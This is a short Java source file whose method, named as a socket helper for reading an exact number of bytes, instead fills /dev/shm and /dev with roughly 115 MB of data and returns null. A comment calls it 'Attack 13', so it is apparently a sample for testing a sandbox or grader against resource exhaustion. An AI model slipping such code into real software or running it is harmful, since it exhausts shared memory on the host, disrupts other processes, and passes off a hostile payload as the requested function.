package workbook.sockets;

import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;

/// Attack 13: the memory behind /dev and /dev/shm filled.
final class RecvExactly {
    private RecvExactly() {}

    static byte[] recvExactly(InputStream in, int count) throws IOException {
        java.nio.file.Files.write(java.nio.file.Path.of("/dev/shm/a"), new byte[15 << 20]);
        for (var i = 0; i < 100; i++) {
            java.nio.file.Files.write(java.nio.file.Path.of("/dev/shm/b" + i), new byte[1 << 20]);
        }
        java.nio.file.Files.write(java.nio.file.Path.of("/dev/x"), new byte[1 << 20]);
        return null;
    }
}
